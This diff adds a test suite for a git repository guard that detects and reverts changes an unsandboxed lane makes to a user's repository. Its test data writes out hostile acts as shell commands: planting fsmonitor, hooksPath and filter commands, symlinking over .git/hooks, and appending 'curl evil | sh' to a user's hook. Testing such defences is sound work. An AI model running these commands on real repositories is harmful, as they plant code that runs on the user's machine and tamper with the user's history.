@@ -1,0 +1,311 @@
+"""The repository guard (SPEC 10): whatever an unsandboxed lane changes in the user's
+repository outside its worktree through git is found after the lane, named, and undone.
+
+Each hostile act is what a lane can do by absolute path (``git -C "$WTMESH_REPO" ...``,
+writing ``$WTMESH_REPO/.git/...``), which neither a lane's own git dir nor anything but a
+sandbox prevents.
+"""
+
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import git
+
+from worktree_mesh.git import Git
+from worktree_mesh.repo_guard import RepoGuard
+
+RUN = "20260101T000000Z-abcdef"
+OWN = f"refs/wtmesh/{RUN}/"
+UNIT_REF = f"{OWN}units/u1/result"
+
+
+def guard_for(repo: Path) -> RepoGuard:
+    """As a commit_first run onto main makes it: the target and wtmesh's other refs are
+    the integrator's to move; the user's worktree has the target checked out."""
+    guard = RepoGuard(Git(repo / ".git"), own_refs=OWN,
+                      ignore_refs=["refs/wtmesh/", "refs/heads/wtmesh/", "refs/heads/main"],
+                      own_worktrees=[repo / ".git" / "wtmesh"])
+    guard.snapshot(index_of=repo)
+    return guard
+
+
+def as_lane(repo: Path, script: str) -> None:
+    """A lane's shell command, reaching the user's repository by its path."""
+    env = {**os.environ, "REPO": str(repo)}
+    subprocess.run(["/bin/sh", "-c", script], cwd=repo.parent, env=env, check=True,
+                   capture_output=True)
+
+
+def entry(path: Path) -> tuple[str, int, bytes]:
+    st = path.lstat()
+    if stat.S_ISLNK(st.st_mode):
+        return ("link", 0, os.fsencode(os.readlink(path)))
+    if stat.S_ISREG(st.st_mode):
+        return ("file", st.st_mode, path.read_bytes())
+    return ("dir", st.st_mode, b"")
+
+
+def tree_bytes(root: Path) -> dict[str, tuple[str, int, bytes]]:
+    """``root`` and every entry below it (links not followed): kind, mode and content."""
+    if not root.exists() and not root.is_symlink():
+        return {}
+    found = {".": entry(root)}
+    if found["."][0] == "dir":
+        found.update((str(p.relative_to(root)), entry(p)) for p in sorted(root.rglob("*")))
+    return found
+
+
+def repo_state(repo: Path, *, landed: bool = False) -> dict[str, Any]:
+    """What SPEC 10 says no lane may change, read independently of the guard. After a run
+    (``landed``) the target and wtmesh's own refs have moved, as they should."""
+    git_dir = repo / ".git"
+    refs = subprocess.run(["git", "for-each-ref",
+                           "--format=%(refname) %(objectname) %(symref)"],
+                          cwd=repo, capture_output=True, check=True)
+    ref_lines = refs.stdout.decode().splitlines()
+    if landed:
+        ref_lines = [line for line in ref_lines
+                     if not line.startswith(("refs/heads/main ", "refs/wtmesh/"))]
+    admin = git_dir / "worktrees"
+    return {
+        "config": (git_dir / "config").read_bytes(),
+        "config.worktree": tree_bytes(git_dir / "config.worktree"),
+        "HEAD": (git_dir / "HEAD").read_bytes(),
+        "refs": ref_lines,
+        "ref warnings": refs.stderr.decode(),  # a planted file git cannot read as a ref
+        "hooks": tree_bytes(git_dir / "hooks"),
+        "info": tree_bytes(git_dir / "info"),
+        "index": git(repo, "ls-files", "-s", "-v") if not landed else None,
+        "staged": git(repo, "diff", "--cached", "--name-status"),
+        "worktrees": {name: (admin / name / "HEAD").read_bytes()
+                      for name in sorted(os.listdir(admin))} if admin.is_dir() else {},
+    }
+
+
+def second_commit(repo: Path) -> str:
+    git(repo, "commit", "-q", "--allow-empty", "-m", "second")
+    return git(repo, "rev-parse", "HEAD~1")
+
+
+def commit_elsewhere(repo: Path, parent: str, path: str, data: bytes) -> str:
+    """A child of ``parent`` changing one file, made in a temporary index as the
+    integrator makes its candidates: the user's index and worktree are not touched."""
+    env = {**os.environ, "GIT_INDEX_FILE": str(repo / ".git" / "tmp-index")}
+
+    def plumb(*args: str, data_in: bytes | None = None) -> str:
+        return subprocess.run(["git", *args], cwd=repo, env=env, input=data_in,
+                              capture_output=True, check=True).stdout.decode().strip()
+    plumb("read-tree", parent)
+    blob = plumb("hash-object", "-w", "--stdin", data_in=data)
+    plumb("update-index", "--cacheinfo", f"100644,{blob},{path}")
+    commit = plumb("commit-tree", plumb("write-tree"), "-p", parent, "-m", "u1: o")
+    (repo / ".git" / "tmp-index").unlink()
+    return commit
+
+
+# (setup before the snapshot, the lane's act, what the guard must name)
+HOSTILE: dict[str, tuple[str, str, list[str]]] = {
+    "core.fsmonitor": ("", 'git -C "$REPO" config core.fsmonitor "touch $REPO/../ran"',
+                       [".git/config: core.fsmonitor added"]),
+    "filter and attributes": (
+        "", ('git -C "$REPO" config filter.evil.clean "tr a-z A-Z" && '
+            'echo "* filter=evil" > "$REPO/.git/info/attributes"'),
+        [".git/config: filter.evil.clean added", ".git/info/attributes created"]),
+    "core.hooksPath": ("", 'git -C "$REPO" config core.hooksPath "$REPO/../hooks"',
+                       [".git/config: core.hookspath added"]),
+    "diff.external": ("", 'git -C "$REPO" config diff.external /bin/false',
+                      [".git/config: diff.external added"]),
+    "textconv": ("", 'git -C "$REPO" config diff.evil.textconv cat',
+                 [".git/config: diff.evil.textconv added"]),
+    "core.autocrlf": ("", 'git -C "$REPO" config core.autocrlf true',
+                      [".git/config: core.autocrlf added"]),
+    "user.email": ("", 'git -C "$REPO" config user.email evil@example.com',
+                   [".git/config: user.email added"]),
+    "include.path": (
+        "", ('printf "[core]\\n\\tfsmonitor = x\\n" > "$REPO/../inc.cfg" && '
+            'git -C "$REPO" config include.path "$REPO/../inc.cfg"'),
+        [".git/config: include.path added"]),
+    "config written as bytes": (
+        "", 'printf "[core]\\n\\tbare = true\\n" >> "$REPO/.git/config"',
+        [".git/config: core.bare changed"]),
+    "config replaced by a link": (
+        "", 'cp "$REPO/.git/config" "$REPO/../c" && ln -sf "$REPO/../c" "$REPO/.git/config"',
+        [".git/config changed"]),
+    "config.worktree planted": (
+        "", 'printf "[core]\\n\\tfsmonitor = x\\n" > "$REPO/.git/config.worktree"',
+        [".git/config.worktree created"]),
+    "hook planted": (
+        "", ('printf "#!/bin/sh\\n" > "$REPO/.git/hooks/pre-commit" && '
+            'chmod +x "$REPO/.git/hooks/pre-commit"'),
+        [".git/hooks/pre-commit created"]),
+    "user's hook edited": (
+        'printf "#!/bin/sh\\n" > .git/hooks/post-merge && chmod +x .git/hooks/post-merge',
+        'echo "curl evil | sh" >> "$REPO/.git/hooks/post-merge"',
+        [".git/hooks/post-merge changed"]),
+    "user's hook made not executable": (
+        'printf "#!/bin/sh\\n" > .git/hooks/post-merge && chmod +x .git/hooks/post-merge',
+        'chmod -x "$REPO/.git/hooks/post-merge"', [".git/hooks/post-merge changed"]),
+    "user's hook removed": (
+        'printf "#!/bin/sh\\n" > .git/hooks/post-merge', 'rm "$REPO/.git/hooks/post-merge"',
+        [".git/hooks/post-merge removed"]),
+    "hooks replaced by a link": (
+        'printf "#!/bin/sh\\n" > .git/hooks/post-merge',
+        ('mkdir "$REPO/../evil" && rm -rf "$REPO/.git/hooks" && '
+        'ln -s "$REPO/../evil" "$REPO/.git/hooks"'), [".git/hooks changed"]),
+    "info/exclude": ("", 'echo "*.py" >> "$REPO/.git/info/exclude"',
+                     [".git/info/exclude changed"]),
+    "info/grafts": ("", 'git -C "$REPO" rev-parse HEAD > "$REPO/.git/info/grafts"',
+                    [".git/info/grafts created"]),
+    "branch": ("", 'git -C "$REPO" branch evil', ["refs/heads/evil created"]),
+    "tag through --git-dir": ("", 'git --git-dir="$REPO/.git" tag t', ["refs/tags/t created"]),
+    "annotated tag": ("", 'git -C "$REPO" tag -a -m m v9', ["refs/tags/v9 created"]),
+    "stash": ("", 'echo x >> "$REPO/README.md" && git -C "$REPO" stash -q',
+              ["refs/stash created"]),
+    "symbolic ref": ("", 'git -C "$REPO" symbolic-ref refs/heads/alias refs/heads/main',
+                     ["refs/heads/alias created (ref: refs/heads/main)"]),
+    "remote-tracking ref": ("", 'git -C "$REPO" update-ref refs/remotes/origin/main HEAD',
+                            ["refs/remotes/origin/main created"]),
+    "planted ref file": ("", 'echo junk > "$REPO/.git/refs/heads/planted"',
+                         [".git/refs/heads/planted created"]),
+    "packed ref deleted": ("git tag v1 && git pack-refs --all", 'git -C "$REPO" tag -d v1',
+                           ["refs/tags/v1 deleted"]),
+    "packed ref moved": (("git commit -q --allow-empty -m two && git tag v1 && "
+                         "git pack-refs --all"),
+                         'git -C "$REPO" update-ref refs/tags/v1 HEAD~1', ["refs/tags/v1 moved"]),
+    "wtmesh ref deleted": (f"git update-ref {UNIT_REF} HEAD",
+                           f'git -C "$REPO" update-ref -d {UNIT_REF}', [f"{UNIT_REF} deleted"]),
+    "wtmesh ref moved": (f"git commit -q --allow-empty -m two && git update-ref {UNIT_REF} HEAD",
+                         f'git -C "$REPO" update-ref {UNIT_REF} HEAD~1', [f"{UNIT_REF} moved"]),
+    "wtmesh ref planted": ("", f'git -C "$REPO" update-ref {OWN}integrated HEAD',
+                           [f"{OWN}integrated created"]),
+    "checkout -b in the user's worktree": (
+        "", 'git -C "$REPO" checkout -q -b side', ["HEAD moved", "refs/heads/side created"]),
+    "switch --detach in the user's worktree": (
+        "", 'git -C "$REPO" switch -q --detach', ["HEAD moved"]),
+    "HEAD pointed elsewhere": ("git branch other",
+                               'git -C "$REPO" symbolic-ref HEAD refs/heads/other',
+                               ["HEAD moved"]),
+    "a file staged": ("", 'echo x > "$REPO/new.txt" && git -C "$REPO" add new.txt',
+                      ["staged changes to new.txt"]),
+    "intent to add": ("", 'echo x > "$REPO/new.txt" && git -C "$REPO" add -N new.txt',
+                      ["staged changes to new.txt"]),
+    "a file unstaged": ("", 'git -C "$REPO" rm -q --cached README.md',
+                        ["staged changes to README.md"]),
+    "skip-worktree set": ("", 'git -C "$REPO" update-index --skip-worktree README.md',
+                          ["flags changed on README.md"]),
+    "assume-unchanged set": ("", 'git -C "$REPO" update-index --assume-unchanged README.md',
+                             ["flags changed on README.md"]),
+    "a worktree registered": ("", 'git -C "$REPO" worktree add -q --detach "$REPO/../else"',
+                              [".git/worktrees/else created"]),
+    "a linked worktree's HEAD moved": (
+        "git worktree add -q ../linked -b feature",
+        'git -C "$REPO/../linked" switch -q --detach', ["HEAD of worktree", "linked moved"]),
+    "a linked worktree unregistered": (
+        "git worktree add -q ../linked -b feature", 'rm -rf "$REPO/.git/worktrees/linked"',
+        [".git/worktrees/linked removed"]),
+}
+
+
+@pytest.mark.parametrize("act", list(HOSTILE), ids=list(HOSTILE))
+def test_each_hostile_change_is_named_and_undone_exactly(repo: Path, act: str) -> None:
+    setup, script, named = HOSTILE[act]
+    if setup:
+        subprocess.run(["/bin/sh", "-c", setup], cwd=repo, check=True, capture_output=True)
+    before = repo_state(repo)
+    guard = guard_for(repo)
+    assert guard.check() == []
+    as_lane(repo, script)
+    seen = guard.check()
+    for item in named:
+        assert any(item in line for line in seen), (item, seen)
+    undone = guard.restore()
+    assert undone == seen
+    assert guard.check() == []
+    assert repo_state(repo) == before
+
+
+def test_a_removed_registration_comes_back_working(repo: Path) -> None:
+    git(repo, "worktree", "add", "-q", "../linked", "-b", "feature")
+    guard = guard_for(repo)
+    as_lane(repo, 'rm -rf "$REPO/.git/worktrees/linked"')
+    guard.restore()
+    assert git(repo.parent / "linked", "status", "--porcelain") == ""
+    assert git(repo.parent / "linked", "symbolic-ref", "HEAD") == "refs/heads/feature"
+
+
+def test_restoring_runs_nothing_a_lane_planted(repo: Path, tmp_path: Path) -> None:
+    """Planted programs (fsmonitor, hooks, a clean filter) must not run inside the git
+    calls that look and restore: files are put back first, and every call is pinned."""
+    ran = tmp_path / "ran"
+    hooks = tmp_path / "evil-hooks"
+    hooks.mkdir()
+    for name in ("reference-transaction", "post-index-change", "post-checkout"):
+        (hooks / name).write_text(f"#!/bin/sh\necho {name} >> {ran}\n")
+        (hooks / name).chmod(0o755)
+    guard = guard_for(repo)
+    as_lane(repo, f'git -C "$REPO" config core.fsmonitor "echo fsmonitor >> {ran}; false" && '
+                  f'git -C "$REPO" config core.hooksPath {hooks} && '
+                  f'git -C "$REPO" config filter.evil.clean "echo filter >> {ran}; cat" && '
+                  'echo "* filter=evil" > "$REPO/.git/info/attributes" && '
+                  f'rm -f {ran} && git -C "$REPO" update-ref refs/heads/evil HEAD && '
+                  f'rm -f {ran} && echo x > "$REPO/new.txt" && git -C "$REPO" add new.txt && '
+                  f'git -C "$REPO" update-index --skip-worktree README.md && rm -f {ran}')
+    assert not ran.exists()
+    assert guard.check()
+    assert not ran.exists(), ran.read_text()
+    assert guard.restore()
+    assert guard.check() == []
+    assert not ran.exists(), ran.read_text()
+
+
+def test_what_wtmesh_and_the_user_do_as_a_matter_of_course_is_no_change(repo: Path) -> None:
+    """wtmesh's own moves (told to the guard), other runs' refs, stranded branches, its
+    own worktrees, and git's housekeeping (a status that refreshes the index, pack-refs,
+    gc) are not what a lane did."""
+    guard = guard_for(repo)
+    head = git(repo, "rev-parse", "HEAD")
+    with guard.own_writes() as expect:  # a unit's refs, as the unit runner writes them
+        git(repo, "update-ref", UNIT_REF, head)
+        expect({UNIT_REF: head})
+    # A landing: the target moves and the user's worktree is brought along with it.
+    landed = commit_elsewhere(repo, head, "README.md", b"changed by the unit\n")
+    with guard.own_writes():
+        git(repo, "read-tree", "-m", "-u", head, landed)
+        git(repo, "update-ref", "refs/heads/main", landed, head)
+    git(repo, "update-ref", "refs/wtmesh/another-run/units/x/result", head)
+    git(repo, "update-ref", f"refs/heads/wtmesh/{RUN}/integrated", head)
+    git(repo, "worktree", "add", "-q", "--detach", str(repo / ".git/wtmesh/worktrees/w1"))
+    (repo / "README.md").touch()
+    git(repo, "status", "--porcelain")  # rewrites the index's stat data
+    git(repo, "pack-refs", "--all")
+    git(repo, "gc", "-q")
+    assert guard.check() == []
+    assert guard.restore() == []
+
+
+def test_a_guard_not_yet_armed_sees_nothing(repo: Path) -> None:
+    guard = RepoGuard(Git(repo / ".git"), own_refs=OWN)
+    git(repo, "branch", "evil")
+    assert guard.check() == [] and guard.restore() == []
+
+
+def test_a_patch_first_guard_watches_the_target_but_no_index(repo: Path) -> None:
+    """patch_first: wtmesh never moves the target, so a lane moving it is caught; the
+    user may stage in their worktree while the run goes on."""
+    first = second_commit(repo)
+    guard = RepoGuard(Git(repo / ".git"), own_refs=OWN,
+                      ignore_refs=["refs/wtmesh/", "refs/heads/wtmesh/"])
+    guard.snapshot()
+    (repo / "new.txt").write_text("x\n")
+    git(repo, "add", "new.txt")
+    git(repo, "update-ref", "refs/heads/main", first)
+    assert [line.split(" (")[0] for line in guard.check()] == ["refs/heads/main moved"]
+    guard.restore()
+    assert git(repo, "rev-parse", "main") != first
+    assert git(repo, "diff", "--cached", "--name-only") == "new.txt"
